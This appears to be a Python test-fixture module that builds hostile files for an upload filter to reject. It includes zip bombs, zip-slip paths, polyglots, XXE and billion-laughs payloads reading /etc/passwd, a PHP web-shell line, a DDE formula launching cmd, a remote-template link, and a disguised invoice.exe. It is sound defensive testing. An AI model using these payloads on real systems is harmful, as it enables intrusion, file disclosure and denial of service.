"""Polyglots, bombs and active content: name, bytes, and a word of the sentence that refuses them."""

import io
import stat
import struct
import zipfile
import zlib

import pikepdf

from tests.vault.ole import DEFAULT_SCRIPT, deflated, hwp
from tests.vault.samples import archive, image, office, pdf

Case = tuple[str, bytes, str]
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
)


def _pdf(change) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def _attached(made) -> None:
    made.attachments["a.txt"] = b"hello"


def _xfa(made) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"))


def _submits(made) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://x.example/")


def _names_script(made) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))
    tree = pikepdf.Dictionary(Names=[pikepdf.String("a"), made.make_indirect(script)])
    made.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def _rich_media(made) -> None:
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia)
    made.pages[0].Annots = pikepdf.Array([note])


def pdf_with_page_in_front() -> bytes:
    return pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<html><script>alert(1)</script>\n", 1)


def pdf_and_zip_by_comment() -> bytes:
    """An archive whose comment covers the end of the PDF: nothing stands after either's end."""
    tail = b"\n%%EOF\n"
    out = io.BytesIO(pdf())
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as packed:
        packed.writestr("run.class", b"\xca\xfe\xba\xbe")
        packed.comment = tail
    return out.getvalue()


def gifar(kind: str = "JPEG") -> bytes:
    """A picture that is a Java archive too."""
    return image(kind) + archive(**{"META-INF/MANIFEST.MF": "x", "Run.class": b"\xca\xfe\xba\xbe"})


def png_with_archive_inside() -> bytes:
    """The archive stands in a chunk of the PNG, and its comment covers the chunks after it."""
    whole = image()
    end = whole[-12:]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("Run.class", b"x")
    body = bytearray(out.getvalue())
    after = 4 + len(end)
    body[-2:] = struct.pack("<H", after)
    chunk = struct.pack(">I", len(body)) + b"ziPp" + bytes(body)
    return whole[:-12] + chunk + struct.pack(">I", zlib.crc32(b"ziPp" + bytes(body))) + end


def pdf_of_a_million_objects() -> bytes:
    """A cross-reference stream of a million entries, packed to some kilobytes."""
    count = 1_000_000
    out = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    second = len(out)
    out += b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
    third = len(out)
    out += b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    start = len(out)
    rows = [struct.pack(">BIB", 0, 0, 255)]
    rows += [struct.pack(">BIB", 1, at, 0) for at in (9, second, third)]
    rows += [struct.pack(">BIB", 1, third, 0)] * (count - 4)
    table = zlib.compress(b"".join(rows), 9)
    head = f"4 0 obj\n<</Type/XRef/Size {count}/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length {len(table)}>>\nstream\n"
    return out + head.encode() + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def pdf_stream_bomb() -> bytes:
    """A cross-reference stream that unpacks to a gigabyte and a half."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(b"\0" * 1024**2) for _number in range(1536)]
    table = b"".join(parts) + packer.flush()
    head = f"1 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length {len(table)}>>\nstream\n"
    body = b"%PDF-1.5\n" + head.encode() + table
    return body + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def nested(levels: int, width: int = 4) -> bytes:
    """An archive of archives of archives, in the manner of 42.zip."""
    inner = archive(**{"zeros.txt": b"\0" * 1024**2})
    for _level in range(levels):
        inner = archive(**{f"lib{number}.zip": inner for number in range(width)})
    return inner


def nested_bomb() -> bytes:
    """Two storeys: sixteen archives of forty megabytes of zeros each."""
    inner = archive(**{"zeros.txt": b"\0" * (40 * 1024**2)})
    return archive(**{f"lib{number}.zip": inner for number in range(16)})


def overlapping() -> bytes:
    """A directory whose entries all point at the same bytes."""
    plain = archive(**{"a.txt": b"hello" * 1000})
    at = plain.index(b"PK\x01\x02")
    end = plain.index(b"PK\x05\x06")
    entry, count = plain[at:end], 200
    record = bytearray(plain[end:])
    struct.pack_into("<HHI", record, 8, count, count, len(entry) * count)
    return plain[:at] + entry * count + bytes(record)


def many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for number in range(10_001):
            packed.writestr(f"{number}.txt", b"")
    return out.getvalue()


def symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        entry = zipfile.ZipInfo("passwd.txt")
        entry.create_system = 3
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        packed.writestr(entry, "/etc/passwd")
    return out.getvalue()


def lying_sizes() -> bytes:
    """The directory says ten bytes, the member unpacks to ten megabytes."""
    plain = bytearray(archive(**{"a.txt": b"\0" * (10 * 1024**2)}))
    at = plain.index(b"PK\x01\x02")
    struct.pack_into("<I", plain, at + 24, 10)
    return bytes(plain)


def hwpx(**members: bytes) -> bytes:
    return archive(mimetype="application/hwp+zip", **members)


_DOCX = "word/document.xml"
_WORKBOOK = "xl/workbook.xml"
_MAIL = b"From: a@x.example\r\nTo: b@x.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
_ATTACHED_EXE = (
    _MAIL + b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
    b'Content-Disposition: attachment; filename="invoice.exe"\r\n\r\nTVqQAAMAAAAEAAAA\r\n'
)
_MACRO_SCRIPT = DEFAULT_SCRIPT + "function Run() { new ActiveXObject('WScript.Shell'); }"
_XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    b"<a>&b;</a>"
)
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

HOSTILE: dict[str, Case] = {
    "eicar": ("eicar.txt", EICAR, "EICAR"),
    "eicar_com": ("eicar.com", EICAR, "not taken"),
    "evil_html_as_xml": ("evil.xml", b"<?xml version='1.0'?>\n<html/>", "HTML"),
    "xhtml_root": ("x.xml", b'<x:html xmlns:x="http://www.w3.org/1999/xhtml"/>', "web page"),
    "svg_within_xml": ("x.xml", b"<a>" + _SVG + b"</a>", "web page or a drawing"),
    "svg_with_external_entity": (
        "logo.xml",
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _SVG,
        "SVG",
    ),
    "svg_named_png": ("logo.png", _SVG, "SVG"),
    "svg_by_name": ("logo.svg", _SVG, "not taken"),
    "xml_external_entity": ("x.xml", _XXE, "entities"),
    "xml_billion_laughs": ("x.xml", _LAUGHS, "entities"),
    "xml_deep": ("x.xml", b"<a>" * 5000 + b"</a>" * 5000, "nested"),
    "xml_that_is_none": ("x.xml", b"hello", "not XML"),
    "json_that_is_none": ("x.json", "점검,결과\n".encode(), "not JSON"),
    "json_deep": ("x.json", b"[" * 100_000, "nested"),
    "rtf_as_text": ("x.txt", b"{\\rtf1 hello}", "RTF"),
    "postscript_as_text": ("x.txt", b"%!PS-Adobe-3.0\n", "PostScript"),
    "shell_script": ("x.txt", b"#!/bin/bash\nid\n", "script"),
    "php": ("x.log", b"<?php system($_GET[0]);", "script"),
    "windows_shortcut": ("x.txt", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90, "shortcut"),
    "seven_zip_as_zip": ("x.zip", b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "7z"),
    "pdf_attachment": ("x.pdf", _pdf(_attached), "embedded"),
    "pdf_xfa": ("x.pdf", _pdf(_xfa), "XFA"),
    "pdf_submits": ("x.pdf", _pdf(_submits), "sends"),
    "pdf_named_script": ("x.pdf", _pdf(_names_script), "JavaScript"),
    "pdf_rich_media": ("x.pdf", _pdf(_rich_media), "multimedia"),
    "pdf_and_html": ("x.pdf", pdf_with_page_in_front(), "web page hidden"),
    "pdf_and_zip": ("x.pdf", pdf_and_zip_by_comment(), "archive hidden"),
    "pdf_million_objects": ("x.pdf", pdf_of_a_million_objects(), "too many parts"),
    "pdf_encrypted": ("x.pdf", pdf(password="geheim"), "password"),
    "gifar_jpeg": ("x.jpg", gifar(), "after the end"),
    "gifar_png": ("x.png", gifar("PNG"), "after the end"),
    "png_archive_inside": ("x.png", png_with_archive_inside(), "archive hidden"),
    "zip_42": ("42.zip", nested(4), "archives in archives"),
    "zip_nested_bomb": ("x.zip", nested_bomb(), "Unpacked"),
    "zip_overlapping": ("x.zip", overlapping(), "upon each other"),
    "zip_many_entries": ("x.zip", many_entries(), "too many entries"),
    "zip_symlink": ("x.zip", symlink(), "symbolic links"),
    "zip_absolute": ("x.zip", archive(**{"/etc/passwd": "x"}), "lead out"),
    "zip_dotdot": ("x.zip", archive(**{"a/../../b.txt": "x"}), "lead out"),
    "zip_lying_sizes": ("x.zip", lying_sizes(), "broken"),
    "zip_exe": ("x.zip", archive(**{"a/tool.txt": b"MZ" + b"\0" * 60}), "a program"),
    "zip_html": ("x.zip", archive(**{"report.txt": b"<html><script>"}), "HTML"),
    "zip_batch": ("x.zip", archive(**{"run.bat": b"del *"}), "a script"),
    "zip_macro_document": (
        "x.zip",
        archive(**{"a.docx": office(_DOCX, **{"word/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "docm_renamed": (
        "x.docx",
        archive(
            **{
                "[Content_Types].xml": '<Override ContentType="application/vnd.ms-word.document.'
                'macroEnabled.main+xml"/>',
                _DOCX: "<w/>",
            }
        ),
        "macros",
    ),
    "remote_template": (
        "x.docx",
        office(
            _DOCX,
            **{
                "word/_rels/settings.xml.rels": RELATIONS.format(
                    "attachedTemplate", "https://evil.example/a.dotm"
                ).encode()
            },
        ),
        "template",
    ),
    "ole_object": ("x.docx", office(_DOCX, **{"word/embeddings/oleObject1.bin": b"x"}), "objects"),
    "active_x": ("x.docx", office(_DOCX, **{"word/activeX/activeX1.xml": b"<a/>"}), "objects"),
    "dde_field": (
        "x.docx",
        archive(
            **{
                "[Content_Types].xml": "<Types/>",
                _DOCX: "<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\x</w:instrText>",
            }
        ),
        "DDE",
    ),
    "dde_formula": (
        "x.xlsx",
        office(_WORKBOOK, **{"xl/worksheets/sheet1.xml": b"<c><f>cmd|'/c calc'!A0</f></c>"}),
        "DDE",
    ),
    "dde_link": (
        "x.xlsx",
        office(_WORKBOOK, **{"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/>"}),
        "DDE",
    ),
    "xlm_macro": (
        "x.xlsx",
        office(_WORKBOOK, **{"xl/macrosheets/sheet1.xml": b"<a/>"}),
        "macros",
    ),
    "docx_entity": (
        "x.docx",
        archive(**{"[Content_Types].xml": "<Types/>", _DOCX: _XXE}),
        "entities",
    ),
    "hwp_script": ("x.hwp", hwp("a", script=_MACRO_SCRIPT), "script"),
    "hwp_postscript": ("x.hwp", hwp("a", BinData__BIN0001_eps=deflated(b"%!PS")), "PostScript"),
    "hwp_password": ("x.hwp", hwp("a", flags=3), "password"),
    "hwp_packaged_program": (
        "x.hwp",
        hwp("a", BinData__BIN0001_OLE=deflated("\x01Ole10Native".encode("utf-16-le"))),
        "program",
    ),
    "hwpx_script": ("x.hwpx", hwpx(**{"Scripts/sourceScripts.js": b"function Run(){x()}"}), "scri"),
    "mail_with_program": ("x.eml", _ATTACHED_EXE, "invoice.exe"),
}
